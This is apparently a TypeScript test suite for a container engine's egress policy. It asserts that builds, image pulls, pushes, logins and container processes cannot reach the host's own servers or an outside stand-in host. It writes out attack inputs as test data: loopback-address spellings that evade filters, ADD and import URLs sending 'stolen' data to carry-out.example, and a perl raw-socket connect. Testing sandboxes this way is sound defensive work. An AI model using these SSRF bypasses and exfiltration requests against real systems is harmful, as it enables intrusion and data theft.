/** With no way out, the engine is none either: what it fetches for a learner is judged by the same rule. */
import assert from "node:assert/strict";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, describe, test } from "node:test";
import { skip, stageOfThisFile } from "./stage.ts";

const stage = stageOfThisFile();
const set = (egress: string) =>
  stage.engine.call("PUT", "/drydock/v1/policies/public", { egress, packageHosts: ["deb.example"] });

describe("what the engine asks for in a learner's name", { skip }, () => {
  test("reaches no server of the machine, by any route and any spelling of its address", async () => {
    const asked: string[] = [];
    const server = createServer((request, response) => {
      asked.push(request.url ?? "");
      response.end();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const { port } = server.address() as AddressInfo;
    const hosts = ["127.0.0.1", "localhost", "127.1", "0x7f000001", "2130706433", "[::ffff:7f00:1]", "0.0.0.0"];
    for (const host of hosts.map((name) => `${name}:${port}`)) {
      const image = encodeURIComponent(`${host}/app`);
      const answers = await Promise.all([
        stage.api("POST", `/images/create?fromImage=${image}&tag=1`),
        stage.api("POST", `/images/create?fromSrc=${encodeURIComponent(`http://${host}/x.tar`)}`),
        stage.api("POST", `/build?remote=${encodeURIComponent(`http://${host}/Dockerfile`)}`),
        stage.api("POST", "/auth", { username: "a", password: "b", serveraddress: host }),
        stage.api("GET", `/distribution/${host}/app/json`),
        stage.api("GET", `/images/search?term=${image}`),
        stage.build("added", `FROM debian\nADD http://${host}/x /x\n`),
        stage.build("from", `FROM ${host}/app\n`),
      ]);
      for (const { status, text } of answers) assert.ok(status >= 400 || /"error"/.test(text), `${host}: ${text}`);
      const [pull] = answers;
      if (host.startsWith("127.0.0.1")) {
        assert.equal(pull?.status, 403);
        assert.match(pull?.text ?? "", /rule \\?"privateAddresses\\?"/);
      }
    }
    await new Promise((resolve) => server.close(resolve));
    assert.deepEqual(asked, []);
    await stage.unharmed();
  });
});

for (const egress of ["none", "registries"]) {
  describe(`egress=${egress}`, { skip }, () => {
    before(async () => assert.equal((await set(egress)).status, 200));
    after(() => set("all"));
    const refused = /Fetching from carry-out\.example is not allowed here \(rule \\?"egress\\?" of the public policy\)/;

    test("ADD by URL carries nothing out", async () => {
      const { text } = await stage.build("added", "FROM debian\nADD http://carry-out.example/?stolen=1 /x\n");
      assert.match(text, refused);
      await stage.unharmed();
    });

    test("docker import and a context by URL carry nothing out", async () => {
      const imported = await stage.api("POST", "/images/create?fromSrc=http://carry-out.example/x.tar");
      assert.match(imported.text, refused);
      const built = await stage.api("POST", "/build?remote=http://carry-out.example/Dockerfile");
      assert.match(built.text, refused);
      await stage.unharmed();
    });

    test("no registry but the operator's is asked: not by pull, push, login or a build", async () => {
      const rule =
        /Reaching the registry carry-out\.example is not allowed here \(rule \\?"egress\\?" of the public policy\)/;
      assert.equal((await stage.api("POST", "/images/debian/tag?repo=carry-out.example/stolen")).status, 201);
      const pulled = await stage.api("POST", "/images/create?fromImage=carry-out.example/stolen&tag=1");
      assert.deepEqual([pulled.status, rule.test(pulled.text)], [403, true], pulled.text);
      const login = { username: "a", password: "stolen", serveraddress: "carry-out.example" };
      for (const { text } of [
        await stage.api("POST", "/images/carry-out.example/stolen/push", {}),
        await stage.api("POST", "/auth", login),
        await stage.api("GET", "/distribution/carry-out.example/stolen/json"),
        await stage.build("from", "FROM carry-out.example/stolen:1\n"),
      ]) {
        assert.match(text, rule);
      }
      stage.engine.good(await stage.attacker.docker("rmi", "carry-out.example/stolen"));
      stage.engine.good(await stage.attacker.docker("pull", "-q", "debian"));
      await stage.unharmed();
    });

    test("a container and a build step reach nothing, and ask for no name", async () => {
      const script = "getent hosts carry-out.example; echo $?";
      const { stdout } = await stage.inside(script);
      assert.equal(stdout, "2\n");
      const connect =
        'use Socket;socket(S,PF_INET,SOCK_STREAM,0);alarm 60;connect(S,sockaddr_in(80,inet_aton("198.51.100.7")))or print "$!\\n"';
      assert.match((await stage.inside(`perl -e '${connect}'`)).stdout, /Connection refused|unreachable|No route/);
      const { text } = await stage.build("reach", `FROM debian\nRUN : ${egress}; perl -e '${connect}'\n`);
      assert.match(text, /Connection refused|unreachable|No route/);
      await stage.unharmed();
    });
  });
}
